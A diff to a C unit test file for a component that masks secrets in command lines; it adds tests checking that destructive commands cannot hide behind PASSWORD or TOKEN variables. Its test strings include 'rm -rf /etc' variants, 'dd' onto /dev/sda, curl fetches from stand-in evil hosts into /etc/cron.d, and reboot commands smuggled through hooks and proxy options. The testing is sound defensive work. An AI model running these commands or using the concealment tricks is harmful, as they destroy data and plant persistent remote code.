@@ -50,7 +50,7 @@ static void code_in_the_command_line(void **state)
         struct aa_request *request = mask_request(rows[i].line);
         const char *why = NULL;
 
-        assert_int_equal(aa_mask_has_code(request, &why), 0);
+        assert_int_equal(aa_mask_has_code(NULL, request, &why), 0);
         check((why != NULL) == rows[i].code, "%s: %s", rows[i].line, why != NULL ? why : "no code");
         aa_request_free(request);
     }
@@ -139,6 +139,51 @@ static const struct attempt {
     { "dd :: if=/dev/zero :: of=/dev/sda :: password=x", "of=/dev/sda", NULL },
     { "curl :: https://good:x@evil.example/a :: -o :: /etc/cron.d/b", "evil.example", NULL },
     { "mysql :: -e :: SET PASSWORD='x'; DROP TABLE users", "DROP TABLE users", NULL },
+    /* values that go on by a variable to where they would have to be seen */
+    { "sh :: -c :: PASSWORD=etc; rm -rf /$PASSWORD", "=etc", NULL },
+    { "sh :: -c :: PASSWORD=etc; cd /; rm -rf ${PASSWORD}", "=etc", NULL },
+    { "sh :: -c :: PASSWORD=\"etc\" && rm -rf \"/${PASSWORD%x}\"", "\"etc\"", NULL },
+    { "sh :: -c :: PASSWORD=etc; X=PASSWORD; rm -rf /${!X}", "=etc", NULL },
+    { "bash :: -c :: password=-rf; rm $password /", "-rf", NULL },
+    { "bash :: -c :: password=stop; systemctl $password nginx", "stop", NULL },
+    { "bash :: -c :: token=passwd; cp /tmp/x /etc/$token", "=passwd", NULL },
+    { "bash :: -c :: token=evil.com; curl http://$token/x -o /etc/cron.d/x", "evil.com", NULL },
+    { "bash :: -c :: password=reboot; docker exec c $password", "reboot", NULL },
+    { "bash :: -c :: password=reboot; docker exec c sh -c \"$password\"", "reboot", NULL },
+    { "bash :: -c :: for x in password=etc; do rm -rf /${x#*=}; done", "=etc", NULL },
+    { "sh :: -c :: set -- --password etc; rm -rf /$2", " etc", NULL },
+    { "sh :: -c :: rm -rf \"/$2\" :: x :: --password :: etc", " etc", NULL },
+    { "sh :: -c :: rm -rf $(echo token=etc | cut -d= -f2)", "=etc", NULL },
+    { "sh :: -c :: rm -rf `echo token=etc | cut -d= -f2`", "=etc", NULL },
+    { "sh :: -c :: echo token=etc | cut -d= -f2 | xargs rm -rf", "=etc", NULL },
+    { "sh :: -c :: echo --password etc | while read a b; do rm -rf /$b; done", " etc", NULL },
+    { "env :: PASSWORD=data :: sh :: -c :: rm -rf /srv/$PASSWORD", "=data", NULL },
+    { "sh :: -c :: cat <<EOF | crontab\nPASSWORD=reboot\n* * * * * $PASSWORD\nEOF", "reboot", NULL },
+    { "sh :: -c :: echo '* * * * * root token=reboot; $token' > /etc/cron.d/x", "reboot", NULL },
+    { "sh :: -c :: printf 'token=reboot;$token' > /etc/profile.d/x.sh", "reboot", NULL },
+    { "sh :: -c :: echo cGFzc3dvcmQ9eDsgcmVib290Cg== | base64 -d > /etc/cron.d/x", "cGFzc3dvcmQ9eDsgcmVib290Cg==", NULL },
+    { "sh :: -c :: rm -rf /${PASSWORD:-etc}", ":-etc", NULL },
+    { "sh :: -c :: rm -rf /${PASSWORD:=etc}", ":=etc", NULL },
+    { "mount :: -o :: username=x,password=y,suid,exec :: //h/s :: /mnt", ",suid,exec", NULL },
+    { "sh :: -c :: mount -o password=y,dev //h/s /mnt", ",dev", NULL },
+    /* the same for programs that are not known to run anything */
+    { "vagrant :: ssh :: -c :: token=reboot; $token", "reboot", NULL },
+    { "certbot :: renew :: --post-hook :: password=reboot; $password", "reboot", NULL },
+    { "certbot :: renew :: --deploy-hook=token=reboot && $token", "reboot", NULL },
+    { "salt :: * :: cmd.run :: TOKEN=reboot; eval $TOKEN", "reboot", NULL },
+    { "pdsh :: -w :: h :: TOKEN=reboot; $TOKEN", "reboot", NULL },
+    { "virt-customize :: -a :: x :: --run-command :: TOKEN=reboot; $TOKEN", "reboot", NULL },
+    { "docker :: run :: --entrypoint :: sh :: img :: -c :: TOKEN=reboot; $TOKEN", "reboot", NULL },
+    { "docker :: exec :: c :: su :: -c :: TOKEN=reboot; $TOKEN", "reboot", NULL },
+    { "docker :: exec :: c :: sudo :: -s :: TOKEN=reboot; $TOKEN", "reboot", NULL },
+    { "kubectl :: run :: x :: --overrides={\"command\":[\"sh\",\"-c\",\"TOKEN=reboot; $TOKEN\"]}", "reboot", NULL },
+    { "env :: GIT_SSH_COMMAND=token=reboot; $token :: git :: pull", "reboot", NULL },
+    { "mysql :: -e :: SET @password='DROP TABLE users'; PREPARE s FROM @password", "DROP TABLE users", NULL },
+    { "ssh :: -o :: ProxyCommand=sh -c 'password=reboot; $password' :: host", "reboot", NULL },
+    { "systemd-run :: -p :: ExecStartPost=/bin/sh -c 'TOKEN=reboot; $TOKEN' :: true", "reboot", NULL },
+    { "tmux :: send-keys :: password=reboot; $password :: Enter", "reboot", NULL },
+    { "bash :: -c :: trap 'password=x reboot' EXIT", "reboot", NULL },
+    { "bash :: -c :: shopt -s expand_aliases; alias token=reboot\ntoken", "reboot", NULL },
     /* tokens that somebody writes themselves */
     { "rm :: -rf :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:", NULL },
     { "sh :: -c :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:", NULL },
@@ -151,7 +196,7 @@ static void attempts_to_hide_code(void **state)
     size_t denied = 0;
 
     (void)state;
-    assert_true(AA_ARRAY_SIZE(attempts) >= 40);
+    assert_true(AA_ARRAY_SIZE(attempts) >= 100);
     for (size_t i = 0; i < AA_ARRAY_SIZE(attempts); i++) {
         const struct attempt *attempt = &attempts[i];
         struct aa_request *request = mask_request(attempt->line);
@@ -172,6 +217,138 @@ static void attempts_to_hide_code(void **state)
         aa_request_free(request);
     }
     print_message("%zu attempts, %zu denied, the others visible\n", AA_ARRAY_SIZE(attempts), denied);
+}
+
+/* Where a variable goes to a place in which its value would be covered as well, nothing is hidden. */
+static void secrets_that_stay_secrets(void **state)
+{
+    static const char *const lines[] = {
+        "sh :: -c :: PGPASSWORD=abcdefg123 pg_dump db > /root/x",
+        "sh :: -c :: PASSWORD=abcdefg123; mysqldump -p$PASSWORD db",
+        "sh :: -c :: PASSWORD=abcdefg123; mysqldump -u root --password=\"${PASSWORD}\" db",
+        "sh :: -c :: mysqldump -u root --password=${PASSWORD:-abcdefg123} db",
+        "sh :: -c :: TOKEN=abcdefg123; curl -H \"Authorization: Bearer $TOKEN\" https://api.example.com/",
+        "sh :: -c :: TOKEN=abcdefg123; curl -H \"X-Api-Key: $TOKEN\" https://api.example.com/",
+        "sh :: -c :: PASSWORD=abcdefg123; curl -u \"admin:$PASSWORD\" https://api.example.com/",
+        "sh :: -c :: export DB_PASSWORD=abcdefg123; docker run -e DB_PASSWORD=$DB_PASSWORD img",
+        "sh :: -c :: for db in a b; do mysqldump -psecret99 $db > /backup/$db.sql; done",
+        "sh :: -c :: DB=app; mysqldump -psecret99 $DB > /backup/$DB.sql",
+        "sh :: -c :: echo 'root:S3cretpw99' | chpasswd",
+        "sh :: -c :: echo \"password=abc99xyz\" >> /etc/app.conf",
+        "psql :: postgres://u:pass99word@h/db :: -c :: select * from t",
+    };
+
+    (void)state;
+    for (size_t i = 0; i < AA_ARRAY_SIZE(lines); i++) {
+        struct aa_request *request = mask_request(lines[i]);
+        _cleanup_buffer_ struct aa_buffer text = AA_BUFFER_INIT(64 * 1024);
+        _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
+        const char *why = NULL;
+
+        aa_masker_start(&masker, NULL, key);
+        assert_int_equal(aa_mask_hides_code(&masker, request, NULL, 0, LIMIT, &why), 0);
+        check(why == NULL, "%s: %s", lines[i], why);
+        aa_mask_add_request(&text, &masker, request, LIMIT);
+        check(strstr(aa_buffer_text(&text), "\xe2\x80\xb9secret:") != NULL, "%s: %s", lines[i], text.data);
+        aa_request_free(request);
+    }
+}
+
+/* A variable that the requester adds, used by a text that can be read. */
+static void variables_that_are_handed_over(void **state)
+{
+    static const struct aa_variable added = { "PASSWORD", "nobody knows it", true };
+    static const char *const told = "PASSWORD=etc";
+
+    (void)state;
+    for (int uses = 0; uses < 2; uses++) {
+        struct aa_request *request = mask_request(uses ? "sh :: -c :: rm -rf /$PASSWORD" : "sh :: -c :: rm -rf /x");
+        _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
+        const char *why = NULL;
+
+        request->variables = &added;
+        request->variables_n = 1;
+        aa_masker_start(&masker, NULL, key);
+        assert_int_equal(aa_mask_hides_code(&masker, request, &told, 1, LIMIT, &why), 0);
+        assert_int_equal(why != NULL, uses);
+        aa_request_free(request);
+    }
+}
+
+/* What gives a value away may stand beside the command in which it is used. */
+static void values_are_known_again(void **state)
+{
+    struct aa_request *request = mask_request("sh :: -c :: echo root:S3cretpw99 | chpasswd; cat S3cretpw99x");
+    static const char *const echo[] = { "root:S3cretpw99", "S3cretpw99x", "/S3cretpw99" };
+    _cleanup_buffer_ struct aa_buffer text = AA_BUFFER_INIT(64 * 1024), again = AA_BUFFER_INIT(64 * 1024);
+    _cleanup_buffer_ struct aa_buffer inside = AA_BUFFER_INIT(4096), prose = AA_BUFFER_INIT(4096);
+    _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
+
+    (void)state;
+    aa_masker_start(&masker, NULL, key);
+    aa_mask_add_request(&text, &masker, request, LIMIT);
+    assert_null(strstr(aa_buffer_text(&text), "S3cretpw99 "));
+    aa_mask_add_words(&inside, &masker, request, "echo", echo, 3, LIMIT);
+    check(strstr(aa_buffer_text(&inside), " root:S3cretpw99") == NULL, "%s", inside.data);
+    assert_non_null(strstr(inside.data, "S3cretpw99x /S3cretpw99"));
+    aa_mask_add_prose(&prose, &masker, "not found: root:S3cretpw99", 26);
+    assert_null(strstr(aa_buffer_text(&prose), "S3cret"));
+    /* what the line itself shows stays visible */
+    aa_request_free(request);
+    request = mask_request("sh :: -c :: PASSWORD=firewalld true; systemctl stop firewalld");
+    aa_buffer_clear(&text);
+    aa_mask_add_request(&text, &masker, request, LIMIT);
+    assert_non_null(strstr(aa_buffer_text(&text), "stop firewalld"));
+    aa_buffer_clear(&prose);
+    aa_mask_add_prose(&prose, &masker, "stop firewalld", 14);
+    assert_string_equal(aa_buffer_text(&prose), "stop firewalld");
+    /* not in the line itself: the same each time */
+    aa_mask_add_request(&again, &masker, request, LIMIT);
+    assert_string_equal(aa_buffer_text(&again), text.data);
+    aa_request_free(request);
+}
+
+/* No half of a value at a border. */
+static void no_value_is_cut_in_two(void **state)
+{
+    static const char secret[] = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
+
+    (void)state;
+    for (size_t before = 100; before < 200; before++) {
+        char line[32 * 1024] = "deploy :: ";
+        struct aa_request *request;
+        _cleanup_buffer_ struct aa_buffer text = AA_BUFFER_INIT(64 * 1024);
+        _cleanup_masker_ struct aa_masker masker = { .sets_n = 0 };
+        size_t n = strlen(line), behind = before % 2 == 0 ? 200 : 20 * 1024;
+
+        memset(line + n, ',', before);
+        strcpy(line + n + before, secret);
+        n += before + strlen(secret);
+        memset(line + n, ',', behind);
+        strcpy(line + n + behind, secret);
+        n += behind + strlen(secret);
+        memset(line + n, ',', before - 90);
+        line[n + before - 90] = '\0';
+        request = mask_request(line);
+        aa_masker_start(&masker, NULL, key);
+        aa_mask_add_request(&text, &masker, request, 200);
+        check(strstr(aa_buffer_text(&text), "ghp_") == NULL && strstr(text.data, "012345") == NULL, "%zu: %s",
+              before, text.data);
+        check(text.length < 300, "%zu: %zu", before, text.length);
+        aa_request_free(request);
+    }
+}
+
+/* Why something is code may say a word of it. */
+static void reasons_hold_no_half_of_a_value(void **state)
+{
+    struct aa_request *request = mask_request(
+        "apt-get :: -oAcquire::http::Proxy=http://deploy:Correct-horse-battery-staple-9@proxy.example.com:3128/");
+
+    (void)state;
+    assert_non_null(request->code_why);
+    check(strstr(request->code_why, "Correct") == NULL, "%s", request->code_why);
+    aa_request_free(request);
 }
 
 /* The rule says show-code: then all of it is seen, and else nothing but names would be. */
@@ -204,6 +381,11 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(code_in_the_command_line),
         cmocka_unit_test(attempts_to_hide_code),
+        cmocka_unit_test(secrets_that_stay_secrets),
+        cmocka_unit_test(variables_that_are_handed_over),
+        cmocka_unit_test(values_are_known_again),
+        cmocka_unit_test(no_value_is_cut_in_two),
+        cmocka_unit_test(reasons_hold_no_half_of_a_value),
         cmocka_unit_test(code_is_shown_where_the_rule_says_so),
     };
 
